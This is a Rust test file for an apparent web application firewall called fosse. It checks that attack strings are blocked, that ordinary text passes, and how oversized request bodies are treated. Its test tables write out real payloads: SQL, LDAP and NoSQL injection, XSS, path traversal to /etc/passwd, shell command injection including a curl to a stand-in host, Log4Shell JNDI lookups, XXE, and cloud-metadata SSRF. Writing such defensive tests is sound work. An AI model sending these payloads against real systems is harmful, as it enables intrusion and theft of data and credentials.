//! A site that names no rules has those that fosse brings along: attacks of every family are denied
//! through the whole edge, in every place, and what people send passes.

use fosse_harness::{Backend, Edge};

mod site;
use site::{everywhere, in_heads, request, status};

const FORM: &str = "Content-Type: application/x-www-form-urlencoded";
const JSON: &str = "Content-Type: application/json";
const XML: &str = "Content-Type: text/xml";
const MULTIPART: &str = "Content-Type: multipart/form-data; boundary=x";

#[test]
#[expect(clippy::too_many_lines, reason = "a table of cases")]
fn attacks_of_every_family_are_denied_and_what_people_send_passes() {
    let backend = Backend::start();
    let edge = Edge::up(&backend.address(), &["--lanes", "1"]);
    for attack in [
        "1' UNION SELECT password FROM users-- -",
        "javascript:alert(document.cookie)",
        "../../../../etc/passwd",
        "; cat /etc/hosts",
        "$(curl http://198.51.100.7/x)",
        "${jndi:ldap://198.51.100.7/a}",
        "{{7*7}}",
        "phpinfo();",
        "*)(uid=*))(|(uid=*",
        "http://169.254.169.254/latest/meta-data/",
        "require('child_process').exec('id')",
        "php://filter/resource=index.php",
    ] {
        for (place, request) in everywhere(attack) {
            assert_eq!(status(&edge, &request), 403, "{attack} in {place}: {}", edge.log());
        }
    }
    for attack in ["${jndi:ldap://198.51.100.7/a}", "{{7*7}}", "<script>alert(1)</script>", "; cat /etc/hosts"] {
        for (place, request) in in_heads(attack) {
            assert_eq!(status(&edge, &request), 403, "{attack} in {place}: {}", edge.log());
        }
    }
    for (what, one) in [
        ("header", request("GET /", &["X-Api-Key: ${jndi:ldap://198.51.100.7/a}"], b"")),
        ("path", request("GET /app/.git/config", &[], b"")),
        ("Base64", request("GET /?v=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", &[], b"")),
        ("document store", request("POST /", &[JSON], br#"{"user":"a","pass":{"$ne":null}}"#)),
        ("mail", request("POST /", &[FORM], b"from=a%40b.example%0d%0aBcc%3a+c%40d.example")),
        ("entity", request("POST /", &[XML], b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>")),
        ("GraphQL", request("POST /graphql", &[JSON], br#"{"query":"{ user(id: \"1' OR '1'='1\") { id } }"}"#)),
    ] {
        assert_eq!(status(&edge, &one), 403, "{what}: {}", edge.log());
    }
    assert_eq!(backend.requests(), 0);
    let honest = "Dear team, I would like to select a chair from your new catalogue (page 7) and update my order.";
    for (place, request) in everywhere(honest) {
        assert_eq!(status(&edge, &request), 200, "{place}: {}", edge.log());
    }
    let graphql = br#"{"query":"query Items($n: Int!) { items(first: $n) { id name } }","variables":{"n":10}}"#;
    assert_eq!(status(&edge, &request("POST /graphql", &[JSON], graphql)), 200, "{}", edge.log());
}

/// A body of each type with a text near its beginning, and with one that goes on to its end.
fn bodies(text: &str, last: &str) -> [(&'static str, String); 4] {
    let part = "--x\r\nContent-Disposition: form-data; name=";
    [
        (FORM, format!("a={text}&b={last}")),
        (JSON, format!("{{\"a\":\"{text}\",\"b\":\"{last}\"}}")),
        (XML, format!("<r><a>{text}</a><b>{last}</b></r>")),
        (MULTIPART, format!("{part}\"a\"\r\n\r\n{text}\r\n{part}\"b\"\r\n\r\n{last}\r\n--x--\r\n")),
    ]
}

#[test]
fn a_body_that_the_site_cuts_is_judged_by_what_there_is_of_it() {
    let backend = Backend::start();
    let edge = Edge::with_config(
        &format!(
            "lanes = 1\n[[listen]]\naddress = \"{{address}}\"\n[[site]]\ndefault = true\nbackend = \"a\"\n\
             body_bytes_max = \"20 KiB\"\nbody_over_limit = \"pass-in-part\"\nrules_milliseconds_max = 10000\n\
             [[backend]]\nname = \"a\"\nservers = [\"{}\"]\n",
            backend.address()
        ),
        &[],
    );
    let send = |kind: &str, body: &str| status(&edge, &request("POST /", &[kind], body.as_bytes()));
    let (filler, attack) = ("x".repeat(30_000), "1' UNION SELECT password FROM users-- -");
    for (kind, body) in bodies("some words", &filler) {
        assert_eq!(send(kind, &body), 200, "{kind}: {}", edge.log());
    }
    let in_the_last = format!("{attack} {filler}");
    for (kind, body) in bodies(attack, &filler).into_iter().chain(bodies("some words", &in_the_last)) {
        assert_eq!(send(kind, &body), 403, "{kind}");
    }
    for (kind, body) in [
        (JSON, format!("{{\"a\" 1,\"b\":\"{filler}\"}}")),
        (XML, format!("<r></s><b>{filler}</b></r>")),
        (MULTIPART, format!("--x\r\nno header\r\n\r\n{filler}\r\n--x--\r\n")),
        (JSON, "{\"a\":\"nobody cut it".to_owned()),
    ] {
        assert_eq!(send(kind, &body), 400, "{kind}");
    }
}

#[test]
fn a_body_within_the_limit_of_its_site_is_not_too_long_for_the_rules() {
    let backend = Backend::start();
    let edge = Edge::with_config(
        &format!(
            "lanes = 1\n[[listen]]\naddress = \"{{address}}\"\n[[site]]\ndefault = true\nbackend = \"a\"\n\
             body_bytes_max = \"4 MiB\"\nrules_milliseconds_max = 10000\n\
             [[backend]]\nname = \"a\"\nservers = [\"{}\"]\n",
            backend.address()
        ),
        &[],
    );
    for (kind, body) in bodies("some words", &"x".repeat(2 << 20)) {
        assert_eq!(status(&edge, &request("POST /", &[kind], body.as_bytes())), 200, "{kind}: {}", edge.log());
    }
}
